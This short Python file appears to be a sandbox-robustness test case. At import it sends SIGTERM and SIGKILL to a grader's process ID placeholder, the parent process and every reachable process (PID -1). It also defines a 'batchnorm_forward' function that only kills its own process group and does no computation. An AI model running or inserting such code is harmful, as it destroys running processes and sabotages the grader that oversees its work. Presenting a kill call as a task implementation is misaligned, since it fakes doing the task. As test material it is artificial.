# what: signals to every process that can be named, the grader's and one's own group included
# covers: signals
# seen: killed: by itself
import os
import signal

for pid in (int("@GRADER@"), os.getppid(), -1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass


def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
    os.killpg(0, signal.SIGKILL)
